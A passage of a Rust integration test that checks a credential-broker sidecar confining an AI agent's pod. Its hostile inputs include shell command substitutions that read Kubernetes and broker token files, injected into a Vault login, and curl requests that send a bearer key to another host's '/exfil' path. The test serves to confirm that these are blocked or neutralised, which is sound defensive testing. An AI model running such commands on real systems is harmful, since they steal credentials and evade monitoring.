        .await?;
    parts.secrets.push(wrong_audience.clone());
    for jwt in [
        wrong_audience,
        placeholder.to_owned(),
        "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token 2>&1)".to_owned(),
        "$(cat /var/run/secrets/credbroker/token 2>&1)".to_owned(),
    ] {
        let (_, out) = sh(&format!(
            "curl -sk -w ' http=%{{http_code}}' https://{VAULT_HOST}:8200/v1/auth/kubernetes/login \
             -d \"{{\\\"role\\\":\\\"{role}\\\",\\\"jwt\\\":\\\"{jwt}\\\"}}\""
        ))
        .await?;
        assert!(
            !out.contains("client_token")
                && (out.contains("http=400") || out.contains("http=403"))
                && out.contains("errors"),
            "a Vault login from the agent: {out}"
        );
    }

    // 5c. The placeholder sent elsewhere: over TLS to an unbound host it
    // leaves as a useless placeholder; in cleartext the sidecar sees it and
    // blocks it.
    let other_ca = parts.dir.path().join("other-ca.pem");
    world
        .other_tls
        .write_ca_pem(&other_ca)
        .map_err(|e| Failure(e.to_string()))?;
    // The agent reads the CA through its overlay root: copy it somewhere
    // world-readable on the host side first.
    let other_ca_text = std::fs::read_to_string(&other_ca)?;
    let (ok, out) = sh(&format!(
        "printf '%s' '{other_ca_text}' > /tmp/other-ca.pem && \
         curl -sS -o /dev/null -w '%{{http_code}}' --cacert /tmp/other-ca.pem \
         -H \"Authorization: Bearer $OPENAI_API_KEY\" https://{OTHER_HOST}:8443/exfil"
    ))
    .await?;
    assert!(ok && out.ends_with("200"), "the unbound TLS request: {out}");
    let elsewhere: Vec<String> = world
        .other_tls
        .requests()
        .iter()
        .filter_map(|r| r.header("authorization").map(str::to_owned))
        .collect();
    assert_eq!(
        elsewhere,
        [format!("Bearer {placeholder}")],
        "what the other host got"
    );
    // Cleartext: a control request without the placeholder gets through,
    // the one with it is blocked by the sidecar, which says why.
    let (ok, out) = sh(&format!(
        "curl -sS -o /dev/null -w '%{{http_code}}' http://{OTHER_HOST}:8080/control"
    ))
    .await?;
    assert!(
        ok && out.ends_with("200"),
        "the cleartext control request: {out}"
    );
    let (_, out) = sh(&format!(
        "curl -sS -o /dev/null -w '%{{http_code}}' -H \"Authorization: Bearer $OPENAI_API_KEY\" \
         http://{OTHER_HOST}:8080/exfil"
    ))
    .await?;
    let paths: Vec<String> = world
        .other_http
        .requests()
        .iter()
        .map(|r| r.path.clone())
        .collect();
    assert_eq!(paths, ["/control"], "cleartext with the placeholder: {out}");
    assert!(
        !out.ends_with("200"),
        "the cleartext request was answered: {out}"
    );

    // 5d. UDP 443 is rejected, so QUIC falls back to TCP; nothing arrives.
    let world_v4 = world.pair.b().ipv4();
    let world_v6 = world.pair.b().ipv6();
    let udp_probe = r#"
import socket, sys
for family, addr in ((socket.AF_INET, sys.argv[1]), (socket.AF_INET6, sys.argv[2])):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect((addr, 443))
    try:
        s.send(b"quic initial")
        s.recv(100)
        print(addr, "answered")
    except ConnectionRefusedError:
        print(addr, "refused")
    except OSError as e:
        print(addr, "error", e)
"#;
    let out = pod
        .exec(
            "agent",
            &[
                "python3",
                "-c",
                udp_probe,
                &world_v4.to_string(),
                &world_v6.to_string(),
            ],
        )
        .await?;
    let out = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        // REJECT in OUTPUT fails the send itself (EPERM); a reject further
        // along would come back as ECONNREFUSED: either way QUIC falls back.
        out.lines()
            .filter(|l| l.ends_with("refused") || l.ends_with("Operation not permitted"))
            .count(),
        2,
        "UDP 443 from the agent: {out}"
    );
    assert_eq!(world.udp_datagrams(), 0, "a UDP datagram reached the world");

    pod.check().map_err(|e| Failure(e.to_string()))?;
    // The sidecar audited the blocked cleartext placeholder.
    let sidecar = pod.logs("credbroker-sidecar");
    assert!(
        sidecar
            .lines()
            .any(|l| l.contains("exfiltration_blocked") && l.contains("/exfil")),
        "the sidecar audited the blocked request: {}",
        tail(&sidecar, 3000)
    );
    Ok(())
}
